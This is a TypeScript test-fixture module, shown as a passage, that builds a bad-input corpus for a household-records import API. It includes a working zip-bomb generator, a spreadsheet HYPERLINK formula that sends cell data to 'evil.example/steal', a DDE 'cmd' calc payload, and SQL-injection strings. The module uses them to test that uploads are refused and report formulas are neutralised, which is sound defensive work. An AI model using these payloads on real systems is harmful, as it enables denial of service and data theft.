import zlib from 'node:zlib';
import { idNumberCheckCharacter } from '@wanjia/shared';
import ExcelJS from 'exceljs';

/**
 * Hostile and broken files for the intake part of the bad-input corpus (issue 16), made in the test:
 * spreadsheets written with exceljs (as an office's Excel would save them), CSVs, a hand-made zip bomb,
 * and the multipart body that carries them to `POST /imports`.
 */

export interface MultipartFile {
  filename: string;
  contentType: string;
  data: Buffer;
}

export type MultipartPart = { name: string; value: string } | { name: string; file: MultipartFile };

/** A multipart/form-data body, its fields in the order given (the engine reads `kind` and `mode` before the file). */
export function multipart(parts: MultipartPart[]): { body: Buffer; contentType: string } {
  const boundary = `----wanjia-corpus-${process.pid}-${Date.now().toString(36)}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    if ('value' in part) {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"\r\n\r\n${part.value}\r\n`));
    } else {
      const { filename, contentType, data } = part.file;
      chunks.push(
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`),
        data,
        Buffer.from('\r\n'),
      );
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

export const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
export const CSV_TYPE = 'text/csv';

/** A 1×1 PNG: a picture, not a spreadsheet. */
export const PNG_BYTES = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

/** Bytes that are neither a zip nor text: the same every run (a hash chain), no NULs left out. */
export function noiseBytes(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = 0x9e3779b9;
  for (let index = 0; index < length; index += 1) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes[index] = state & 0xff;
  }
  // Not a zip's signature by chance.
  bytes[0] = 0x00;
  return bytes;
}

export const HTML_PAGE = Buffer.from(
  '<!doctype html><html><head><title>户籍</title></head><body><table><tr><th>户主姓名</th></tr><tr><td>张三</td></tr></table><script>alert(1)</script></body></html>',
);

/** A CSV line: cells quoted only when they must be. */
export function csvLine(cells: readonly string[]): string {
  return cells.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(',');
}

/** A UTF-8 CSV (with the BOM Excel writes) of a header and rows. */
export function csvFile(header: readonly string[], rows: readonly (readonly string[])[]): Buffer {
  return Buffer.from(`\uFEFF${[header, ...rows].map(csvLine).join('\r\n')}\r\n`);
}

/**
 * A CSV of `rows` data rows, each as short as a row can be (one letter in the first column, the other
 * cells empty): a million of them stay under the upload's size limit, so the row limit is what refuses it.
 */
export function csvOfManyRows(header: readonly string[], rows: number, lineEnd = '\n'): Buffer {
  const line = Buffer.from(`a${','.repeat(header.length - 1)}${lineEnd}`);
  const head = Buffer.from(`${csvLine(header)}${lineEnd}`);
  const body = Buffer.alloc(head.length + line.length * rows);
  head.copy(body, 0);
  for (let index = 0; index < rows; index += 1) line.copy(body, head.length + index * line.length);
  return body;
}

export type SheetCell = string | number | { formula: string; result?: string | number };

/** An .xlsx written by exceljs: one sheet, rows as given, optional merged ranges (`A1:B1`). */
export async function xlsxFile(rows: readonly (readonly SheetCell[])[], options: { merges?: string[]; sheetName?: string } = {}): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet(options.sheetName ?? '导入');
  for (const row of rows) sheet.addRow(row.map((cell) => (typeof cell === 'object' ? { formula: cell.formula, result: cell.result } : cell)));
  for (const range of options.merges ?? []) sheet.mergeCells(range);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

// --- a zip bomb, by hand ---------------------------------------------------------------------------

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n += 1) {
    let c = n;
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

function crcUpdate(crc: number, data: Buffer): number {
  let c = crc ^ 0xffffffff;
  for (let index = 0; index < data.length; index += 1) c = CRC_TABLE[(c ^ data[index]!) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

interface ZipEntry {
  name: string;
  /** Raw deflate data. */
  compressed: Buffer;
  crc: number;
  size: number;
  /** What the headers declare (a lying bomb declares far less than it holds). */
  declaredSize?: number;
}

function deflatedEntry(name: string, text: string): ZipEntry {
  const data = Buffer.from(text);
  return { name, compressed: zlib.deflateRawSync(data), crc: crcUpdate(0, data), size: data.length };
}

function zipOf(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const size = entry.declaredSize ?? entry.size;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x5a21, 12);
    local.writeUInt32LE(entry.crc, 14);
    local.writeUInt32LE(entry.compressed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x5a21, 14);
    central.writeUInt32LE(entry.crc, 16);
    central.writeUInt32LE(entry.compressed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.compressed);
    centrals.push(central, name);
    offset += local.length + name.length + entry.compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/**
 * The sheet's XML, `prefix` + `repeat` × `chunk` + `suffix`, deflated without ever holding it: each
 * piece is compressed on its own with a full flush (no back-references across pieces), so the one
 * compressed chunk is repeated as is and the stream stays valid deflate.
 */
function repeatedEntry(name: string, prefix: string, chunk: Buffer, repeat: number, suffix: string): ZipEntry {
  const flush = { finishFlush: zlib.constants.Z_FULL_FLUSH, level: 9 };
  const head = Buffer.from(prefix);
  const tail = Buffer.from(suffix);
  const compressedChunk = zlib.deflateRawSync(chunk, flush);
  let crc = crcUpdate(0, head);
  for (let index = 0; index < repeat; index += 1) crc = crcUpdate(crc, chunk);
  crc = crcUpdate(crc, tail);
  const parts = [zlib.deflateRawSync(head, flush), ...Array.from({ length: repeat }, () => compressedChunk), zlib.deflateRawSync(tail)];
  return { name, compressed: Buffer.concat(parts), crc, size: head.length + chunk.length * repeat + tail.length };
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>';
const ROOT_RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>';
const WORKBOOK =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="导入" sheetId="1" r:id="rId1"/></sheets></workbook>';
const WORKBOOK_RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>';

function inlineCell(reference: string, text: string): string {
  return `<c r="${reference}" t="inlineStr"><is><t>${text.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</t></is></c>`;
}

function columnLetters(index: number): string {
  let letters = '';
  for (let n = index + 1; n > 0; n = Math.floor((n - 1) / 26)) letters = String.fromCharCode(65 + ((n - 1) % 26)) + letters;
  return letters;
}

export type ZipBombShape =
  /** 1 GiB of spaces inside the sheet, between the header row and the end: one text run an XML parser holds whole. */
  | 'whitespace'
  /** Millions of identical rows (about 1 GiB of row XML): the row limit or a byte budget must stop it. */
  | 'rows'
  /** The whitespace bomb whose headers declare a 10 KB sheet: only a budget on what is inflated stops it. */
  | 'lying'
  /** An honest small sheet, and the lying bomb in xl/styles.xml: a part the reader parses too. */
  | 'styles'
  /** An honest small sheet1.xml, and a lying bomb sheet2.xml placed before it in the archive (read first by a streaming reader). */
  | 'secondSheetFirst'
  /** Honest sizes under the budget: a shared-strings table of ~40 million one-letter strings, which a reader that caches it holds whole. */
  | 'sharedStrings';

/**
 * A tiny .xlsx (about 1 MB) with a part that inflates to about 1 GiB; its header row is a real one.
 * `sharedStringMiB`: the shared-strings table's size for the 'sharedStrings' shape.
 */
export function zipBomb(header: readonly string[], shape: ZipBombShape, dataRow: readonly string[] = [], sharedStringMiB = 640): Buffer {
  const headerRow = `<row r="1">${header.map((text, index) => inlineCell(`${columnLetters(index)}1`, text)).join('')}</row>`;
  const secondRow = dataRow.length ? `<row r="2">${dataRow.map((text, index) => inlineCell(`${columnLetters(index)}2`, text)).join('')}</row>` : '';
  const open =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
  const prefix = `${open}${headerRow}`;
  const suffix = '</sheetData></worksheet>';
  const MIB = 1024 * 1024;
  const spaces = Buffer.alloc(MIB, 0x20);
  const head = [
    deflatedEntry('[Content_Types].xml', CONTENT_TYPES),
    deflatedEntry('_rels/.rels', ROOT_RELS),
    deflatedEntry('xl/workbook.xml', WORKBOOK),
    deflatedEntry('xl/_rels/workbook.xml.rels', WORKBOOK_RELS),
  ];
  const honestSheet = () => deflatedEntry('xl/worksheets/sheet1.xml', `${prefix}${secondRow}${suffix}`);
  if (shape === 'styles') {
    const styles = repeatedEntry(
      'xl/styles.xml',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts count="0">',
      spaces,
      1024,
      '</numFmts></styleSheet>',
    );
    styles.declaredSize = 10_000;
    return zipOf([...head, styles, honestSheet()]);
  }
  if (shape === 'sharedStrings') {
    const item = '<si><t>a</t></si>';
    const strings = repeatedEntry(
      'xl/sharedStrings.xml',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
      Buffer.from(item.repeat(Math.floor(MIB / item.length))),
      sharedStringMiB,
      '</sst>',
    );
    return zipOf([...head, strings, honestSheet()]);
  }
  if (shape === 'secondSheetFirst') {
    const bomb = repeatedEntry('xl/worksheets/sheet2.xml', prefix, spaces, 1024, suffix);
    bomb.declaredSize = 10_000;
    return zipOf([...head, bomb, honestSheet()]);
  }
  let sheet: ZipEntry;
  if (shape === 'rows') {
    // Rows without an `r`: each follows the last, as a reader numbers them.
    const row = `<row>${inlineCell('A2', '张三').replace(' r="A2"', '')}</row>`;
    const chunk = Buffer.from(row.repeat(Math.floor(MIB / row.length)));
    sheet = repeatedEntry('xl/worksheets/sheet1.xml', prefix, chunk, 1024, suffix);
  } else {
    sheet = repeatedEntry('xl/worksheets/sheet1.xml', prefix, spaces, 1024, suffix);
    if (shape === 'lying') sheet.declaredSize = 10_000;
  }
  return zipOf([...head, sheet]);
}

/** A zip that is no workbook: a text file in an archive named .xlsx. */
export function zipWithoutWorkbook(): Buffer {
  return zipOf([deflatedEntry('readme.txt', '这不是表格')]);
}

// --- the intake corpus (issue 16) ------------------------------------------------------------------

/** The tables an import's own bookkeeping writes: an upload refused only in its dry run leaves its import there. */
export const IMPORT_TABLES = ['data_import', 'data_import_row', 'data_import_key', 'data_import_problem'];

/** An upload the server takes is audited (uploadImport), as is a report's download (downloadImportReport). */
export const TAKEN_UPLOAD_TABLES = [...IMPORT_TABLES, 'audit_entry'];

/** A template's columns as `importTemplates` tells them (the files below are built from what the server says). */
export interface TemplateColumn {
  header: string;
  required: boolean;
  example: string;
}

/** What the intake cases aim at; made by `discoverIntakeFixtures` through the API before the corpus runs. */
export interface IntakeFixtures {
  /** The households template's columns, in order. */
  households: TemplateColumn[];
  /** A good households CSV for the district administrator (one household of two, in a village of 平山区). */
  goodCsv: Buffer;
  /** An import of the city administrator (a 溪湖区 village), checked: the district administrator reaches none of it. */
  cityImportId: string;
  /** The district administrator's own checked import, with one likely-duplicate warning and one error row. */
  ownImportId: string;
  /** Its row with an error (an error cannot be accepted) and its row with a warning. */
  ownErrorRow: number;
  ownWarningRow: number;
  /** The district administrator's import, cancelled: nothing more can be done with it. */
  cancelledImportId: string;
  /** The spreadsheets exceljs writes for the cases (see `buildIntakeFiles`). */
  files: IntakeFiles;
  /** A households CSV whose cells start with =, +, -, @ (one household, two rows). */
  injectionCsv: Buffer;
}

/** The answer the harness observed, for the checks a case makes after it. */
export interface IntakeAnswer {
  status: number;
  json: unknown;
  text: string;
}

/** What a case's after-check may do: ask the API as one of the corpus's identities. */
export interface IntakeProbe {
  graphql<T>(
    as: IntakeIdentity,
    query: string,
    variables?: Record<string, unknown>,
  ): Promise<{ data?: T | null; errors?: { message: string; extensions?: Record<string, unknown> }[] }>;
  get(as: IntakeIdentity, path: string): Promise<{ status: number; body: Buffer; contentType: string | null }>;
}

export type IntakeIdentity = 'none' | 'admin' | 'pingshanAdmin' | 'analyst' | 'cadre' | 'otherCadre' | 'expired' | 'tamperedRole' | 'wrongSecret';

export interface IntakeRequest {
  as: IntakeIdentity;
  /** The route beside /graphql (`/imports`, `/imports/templates/HOUSEHOLDS.xlsx`); absent for GraphQL. */
  path?: string;
  method?: 'GET' | 'POST';
  body?: Buffer | string;
  contentType?: string | null;
  query?: string;
  variables?: Record<string, unknown>;
}

export interface IntakeCase {
  category: string;
  name: string;
  request: (intake: IntakeFixtures) => IntakeRequest;
  code: 'OK' | 'BAD_USER_INPUT' | 'UNAUTHENTICATED' | 'FORBIDDEN' | 'CONFLICT' | 'NOT_FOUND' | 'GRAPHQL_VALIDATION_FAILED';
  status?: number;
  field?: string;
  message?: RegExp;
  /**
   * Tables the request may write although what it sent is refused: an upload the engine takes (201) and
   * refuses only when its dry run reads it leaves its import FAILED (docs/imports.md); `settle` proves it.
   */
  mayTouch?: string[];
  /** May the upload's file be kept under IMPORT_DIR (only an import that exists keeps one). */
  mayStore?: boolean;
  /**
   * Run at the very end of the corpus: a case whose failure leaves the server busy or the database large
   * (a file taken that should have been refused: 200,000 stored rows make every later table snapshot slow).
   */
  last?: boolean;
  /** Runs after the answer and before the tables are compared: waits for the dry run and checks its outcome. */
  settle?: (answer: IntakeAnswer, probe: IntakeProbe, intake: IntakeFixtures) => Promise<void>;
}

const IMPORT_STATE = 'query ($id: ID!) { dataImport(id: $id) { id state failure rowsTotal counts { rows ready warnings refused created } } }';
const IMPORT_PROBLEMS =
  'query ($id: ID!) { dataImport(id: $id) { state failure problems(first: 50) { nodes { rowNumber column severity code message accepted } } } }';

interface ImportView {
  id: string;
  state: string;
  failure: string | null;
  rowsTotal: number | null;
  counts: { rows: number; ready: number; warnings: number; refused: number; created: number };
}

/** Waits for an import's dry run to end (the engine runs it in the background after the upload answers). */
export async function settledImport(probe: IntakeProbe, as: IntakeIdentity, id: string, timeoutMs = 120_000): Promise<ImportView> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const answer = await probe.graphql<{ dataImport: ImportView }>(as, IMPORT_STATE, { id });
    if (answer.errors?.length || !answer.data) throw new Error(`dataImport(${id}) failed: ${JSON.stringify(answer.errors)}`);
    const view = answer.data.dataImport;
    if (view.state !== 'UPLOADED' && view.state !== 'CHECKING') return view;
    if (Date.now() > deadline) throw new Error(`import ${id} still ${view.state} after ${timeoutMs} ms`);
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
}

function uploadedId(answer: IntakeAnswer): string {
  const id = (answer.json as { id?: unknown } | null)?.id;
  if (typeof id !== 'string' && typeof id !== 'number') throw new Error(`the upload answered no id: ${answer.text.slice(0, 300)}`);
  return String(id);
}

/** The dry run refused the whole file: the import ends FAILED, its reason in Chinese, nothing to commit. */
function failsTheCheck(failure: RegExp): NonNullable<IntakeCase['settle']> {
  return async (answer, probe) => {
    const view = await settledImport(probe, 'pingshanAdmin', uploadedId(answer));
    expect({ state: view.state, created: view.counts.created }).toEqual({ state: 'FAILED', created: 0 });
    expect(view.failure).toMatch(failure);
    expect(view.failure).toMatch(/[\u4e00-\u9fff]/);
  };
}

/** The dry run refused a cell: an ERROR naming the row and the column as the file has it, or the whole file FAILED naming both. */
function refusesTheCell(rowNumber: number, header: (intake: IntakeFixtures) => string, message: RegExp): NonNullable<IntakeCase['settle']> {
  return async (answer, probe, intake) => {
    const id = uploadedId(answer);
    await settledImport(probe, 'pingshanAdmin', id);
    const result = await probe.graphql<{
      dataImport: {
        state: string;
        failure: string | null;
        problems: { nodes: { rowNumber: number; column: string | null; severity: string; message: string }[] };
      };
    }>('pingshanAdmin', IMPORT_PROBLEMS, { id });
    const view = result.data!.dataImport;
    const column = header(intake);
    if (view.state === 'FAILED') {
      expect(view.failure).toMatch(message);
      expect(view.failure).toContain(column);
      return;
    }
    expect(view.state).toBe('CHECKED');
    expect(view.problems.nodes).toContainEqual(expect.objectContaining({ rowNumber, column, severity: 'ERROR', message: expect.stringMatching(message) }));
  };
}

/** Cells that Excel, WPS and LibreOffice run when a CSV opens (OWASP CSV injection), after the CSV's own quoting. */
const RUNNABLE_CELL = /^[=+\-@\t\r]/;

/** The cells of a CSV report (RFC 4180 quoting), enough to see how each cell starts. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index]!;
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"' && cell === '') quoted = true;
    else if (character === ',' || character === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += character;
  }
  if (cell) cells.push(cell);
  return cells;
}

const reportNeutralisesFormulas: NonNullable<IntakeCase['settle']> = async (answer, probe) => {
  const id = uploadedId(answer);
  const view = await settledImport(probe, 'pingshanAdmin', id);
  expect(view.state).toBe('CHECKED');
  for (const format of ['csv', 'xlsx'] as const) {
    const report = await probe.get('pingshanAdmin', `/imports/${id}/report.${format}`);
    expect(report.status).toBe(200);
    if (format === 'csv') {
      const runnable = csvCells(report.body.toString('utf8').replace(/^\uFEFF/, '')).filter((cell) => RUNNABLE_CELL.test(cell));
      expect(runnable).toEqual([]);
    } else {
      // An xlsx cell is a formula only as <f>: text cells are never run.
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(report.body as unknown as ArrayBuffer);
      const formulas: string[] = [];
      workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void (cell.formula ? formulas.push(cell.formula) : undefined)));
      expect(formulas).toEqual([]);
    }
  }
};

const household = (intake: IntakeFixtures) => intake.households.map((column) => column.header);
const headerLike = (intake: IntakeFixtures, pattern: RegExp) => intake.households.find((column) => pattern.test(column.header))!.header;

function upload(as: IntakeIdentity, parts: (intake: IntakeFixtures) => MultipartPart[]): IntakeCase['request'] {
  return (intake) => {
    const { body, contentType } = multipart(parts(intake));
    return { as, path: '/imports', method: 'POST', body, contentType };
  };
}

const fields = (kind = 'HOUSEHOLDS', mode?: string): MultipartPart[] => [
  { name: 'kind', value: kind },
  ...(mode === undefined ? [] : [{ name: 'mode', value: mode }]),
];
const fileOf = (filename: string, data: Buffer, contentType = filename.endsWith('.csv') ? CSV_TYPE : XLSX_TYPE): MultipartPart => ({
  name: 'file',
  file: { filename, contentType, data },
});

/** One built file per name, for the cases that send it on both databases. */
const built = new Map<string, Buffer>();
function memo(name: string, make: () => Buffer): Buffer {
  if (!built.has(name)) built.set(name, make());
  return built.get(name)!;
}

/** Spreadsheets exceljs writes (async), made once by `buildIntakeFiles` before the corpus runs. */
export interface IntakeFiles {
  headerOnlyXlsx: Buffer;
  emptyWorkbook: Buffer;
  formulaSum: Buffer;
  formulaHyperlink: Buffer;
  formulaDde: Buffer;
  mergedHeader: Buffer;
}

export async function buildIntakeFiles(columns: TemplateColumn[], goodRow: string[]): Promise<IntakeFiles> {
  const header = columns.map((column) => column.header);
  const nameAt = Math.max(
    0,
    columns.findIndex((column) => /户主.*姓名|户主$/.test(column.header)),
  );
  const withFormula = (formula: string, result: string | number) => {
    const row: SheetCell[] = [...goodRow];
    row[nameAt] = { formula, result };
    return xlsxFile([header, row]);
  };
  // The header row's first two cells merged: one header over two columns (户主姓名 lost under 户编号).
  const merged: SheetCell[] = header.map((text, index) => (index === 1 ? '' : text));
  return {
    headerOnlyXlsx: await xlsxFile([header]),
    emptyWorkbook: await xlsxFile([]),
    formulaSum: await withFormula('1+1', 2),
    formulaHyperlink: await withFormula('HYPERLINK("http://evil.example/steal?d="&B2,"张三")', '张三'),
    formulaDde: await withFormula("cmd|' /C calc'!A0", 0),
    mergedHeader: await xlsxFile([merged, goodRow], { merges: ['A1:B1'] }),
  };
}

const BAD_IDS: [string, string][] = [
  ['empty', ''],
  ['zero', '0'],
  ['negative', '-1'],
  ['fractional', '1.5'],
  ['letters', 'abc'],
  ['huge', '99999999999999999999'],
  ['SQL injection', "1' OR '1'='1"],
];

/** Ids in a path (`/imports/<id>/report.xlsx`): what a URL can carry. */
const BAD_PATH_IDS: [string, string][] = [
  ['zero', '0'],
  ['negative', '-1'],
  ['fractional', '1.5'],
  ['letters', 'abc'],
  ['huge', '99999999999999999999'],
  ['SQL injection', encodeURIComponent("1' OR '1'='1")],
  ['exponent', '1e3'],
];

const COMMIT = 'mutation ($input: CommitImportInput!) { commitImport(input: $input) { id state } }';
const CANCEL = 'mutation ($input: CancelImportInput!) { cancelImport(input: $input) { id state } }';
const ACCEPT = 'mutation ($input: AcceptImportWarningsInput!) { acceptImportWarnings(input: $input) { id state counts { accepted } } }';
const DATA_IMPORT = 'query ($id: ID!) { dataImport(id: $id) { id state } }';

const base64url = (text: string) => Buffer.from(text).toString('base64url');
const BAD_CURSORS: [string, string][] = [
  ['not base64 JSON', 'not-a-cursor'],
  ['an object', base64url('{"id":1}')],
  ['SQL injection', "' OR 1=1 --"],
  ['a string id', base64url('["1 OR 1=1"]')],
];

export function intakeCorpus(): IntakeCase[] {
  const cases: IntakeCase[] = [];
  const add = (entry: IntakeCase) => cases.push(entry);
  const refusedUpload = (name: string, request: IntakeCase['request'], options: { field?: string; status?: number; message?: RegExp } = {}): IntakeCase => ({
    category: 'intake: upload refused',
    name,
    request,
    code: 'BAD_USER_INPUT',
    status: options.status ?? 400,
    field: options.field ?? 'file',
    ...(options.message ? { message: options.message } : {}),
  });

  // Who uploads: administrators only; a token that does not sign in is refused before the body is read.
  for (const [as, code, status] of [
    ['none', 'UNAUTHENTICATED', 401],
    ['expired', 'UNAUTHENTICATED', 401],
    ['tamperedRole', 'UNAUTHENTICATED', 401],
    ['wrongSecret', 'UNAUTHENTICATED', 401],
    ['cadre', 'FORBIDDEN', 403],
    ['analyst', 'FORBIDDEN', 403],
  ] as const) {
    add({
      category: 'intake: who uploads',
      name: `POST /imports as ${as}`,
      request: upload(as, (intake) => [...fields(), fileOf('排查.csv', intake.goodCsv)]),
      code,
      status,
    });
  }

  // The form.
  add(
    refusedUpload(
      'no file part',
      upload('pingshanAdmin', () => fields()),
    ),
  );
  add(
    refusedUpload(
      'the file under another field name',
      upload('pingshanAdmin', (intake) => [...fields(), { name: 'upload', file: { filename: '排查.csv', contentType: CSV_TYPE, data: intake.goodCsv } }]),
    ),
  );
  add(
    refusedUpload(
      'no kind',
      upload('pingshanAdmin', (intake) => [fileOf('排查.csv', intake.goodCsv)]),
      { field: 'kind' },
    ),
  );
  for (const [label, kind] of [
    ['an unknown kind', 'NOPE'],
    ['a lower-case kind', 'households'],
    ['an SQL kind', "HOUSEHOLDS' OR '1'='1"],
    ['an empty kind', ''],
  ] as const) {
    add(
      refusedUpload(
        `${label}`,
        upload('pingshanAdmin', (intake) => [...fields(kind), fileOf('排查.csv', intake.goodCsv)]),
        { field: 'kind' },
      ),
    );
  }
  for (const [label, mode] of [
    ['an unknown mode', 'DELETE_ALL'],
    ['a lower-case mode', 'update_existing'],
  ] as const) {
    add(
      refusedUpload(
        `${label}`,
        upload('pingshanAdmin', (intake) => [...fields('HOUSEHOLDS', mode), fileOf('排查.csv', intake.goodCsv)]),
        { field: 'mode' },
      ),
    );
  }
  add(
    refusedUpload('a JSON body instead of multipart', (intake) => ({
      as: 'pingshanAdmin',
      path: '/imports',
      method: 'POST',
      body: JSON.stringify({ kind: 'HOUSEHOLDS', file: intake.goodCsv.toString('base64') }),
      contentType: 'application/json',
    })),
  );
  add(
    refusedUpload('a multipart body cut off in the middle of the file', (intake) => {
      const { body, contentType } = multipart([...fields(), fileOf('排查.csv', intake.goodCsv)]);
      return { as: 'pingshanAdmin', path: '/imports', method: 'POST', body: body.subarray(0, body.length - 60), contentType };
    }),
  );

  // A body that ends before its closing boundary (a client or proxy cut it short): refused, the server stays up.
  add({
    category: 'upload: truncated body',
    name: 'POST /uploads/photos as a cadre with the multipart body cut off in the middle of the photo',
    request: () => {
      const { body, contentType } = multipart([
        { name: 'file', file: { filename: '走访.png', contentType: 'image/png', data: Buffer.concat([PNG_BYTES, noiseBytes(5000)]) } },
      ]);
      return { as: 'cadre', path: '/uploads/photos', method: 'POST', body: body.subarray(0, body.length - 60), contentType };
    },
    code: 'BAD_USER_INPUT',
    status: 400,
    field: 'file',
  });

  // Files that are not spreadsheets.
  // Neither an xlsx zip nor text: 415, as the photos answer what is not a picture.
  const notASpreadsheet = (label: string, filename: string, data: () => Buffer, contentType?: string, status = 415) =>
    add(
      refusedUpload(
        label,
        upload('pingshanAdmin', () => [...fields(), fileOf(filename, data(), contentType)]),
        { status },
      ),
    );
  notASpreadsheet('a PNG named .xlsx', '排查.xlsx', () => PNG_BYTES);
  notASpreadsheet('a PNG named .csv', '排查.csv', () => PNG_BYTES);
  notASpreadsheet('a PNG sent as image/png', '排查.png', () => PNG_BYTES, 'image/png');
  notASpreadsheet('random bytes named .xlsx', '排查.xlsx', () => noiseBytes(64_000));
  notASpreadsheet('random bytes named .csv', '排查.csv', () => noiseBytes(64_000));
  notASpreadsheet('an HTML page named .xlsx', '排查.xlsx', () => HTML_PAGE);
  notASpreadsheet('a zip holding no workbook, named .xlsx', '排查.xlsx', () => zipWithoutWorkbook(), undefined, 400);
  notASpreadsheet('an empty .xlsx (0 bytes)', '排查.xlsx', () => Buffer.alloc(0), undefined, 400);
  notASpreadsheet('an empty .csv (0 bytes)', '排查.csv', () => Buffer.alloc(0), undefined, 400);
  add({
    category: 'intake: upload refused',
    name: 'a file over IMPORT_MAX_BYTES (20 MB)',
    request: upload('pingshanAdmin', (intake) => [
      ...fields(),
      fileOf(
        '排查.csv',
        memo('oversize', () => {
          const head = csvFile(household(intake), []);
          return Buffer.concat([head, Buffer.alloc(20_000_001 - head.length, 'a,')]);
        }),
      ),
    ]),
    code: 'BAD_USER_INPUT',
    status: 413,
    field: 'file',
  });

  // Files a spreadsheet program writes that cannot be imported as they are. Only reading them tells:
  // the upload is taken (201) and its dry run ends FAILED with the reason (docs/imports.md), which the
  // import's own tables keep — nothing else is written.
  const failedCheck = (name: string, filename: string, data: (intake: IntakeFixtures) => Buffer, failure: RegExp): IntakeCase => ({
    category: 'intake: check refused',
    name,
    request: upload('pingshanAdmin', (intake) => [...fields(), fileOf(filename, data(intake))]),
    code: 'OK',
    status: 201,
    mayTouch: TAKEN_UPLOAD_TABLES,
    mayStore: true,
    settle: failsTheCheck(failure),
  });
  add(failedCheck('a .csv of a byte-order mark only', '排查.csv', () => Buffer.from('\uFEFF'), /空|表头/));
  add(failedCheck('a workbook whose sheet is empty', '排查.xlsx', (intake) => intake.files.emptyWorkbook, /空|表头/));
  add(failedCheck('a CSV with the header row only', '排查.csv', (intake) => csvFile(household(intake), []), /只有表头/));
  add(failedCheck('an .xlsx with the header row only', '排查.xlsx', (intake) => intake.files.headerOnlyXlsx, /只有表头/));
  add(
    failedCheck(
      'a CSV whose header misses a required column (户主姓名)',
      '排查.csv',
      (intake) =>
        csvFile(
          household(intake).filter((header) => header !== '户主姓名'),
          [['x']],
        ),
      /缺少必填列.*户主姓名/,
    ),
  );
  add(failedCheck('a CSV whose header names a column twice', '排查.csv', (intake) => csvFile([...household(intake), '地址'], [['x']]), /两次/));
  add({
    ...refusedUpload(
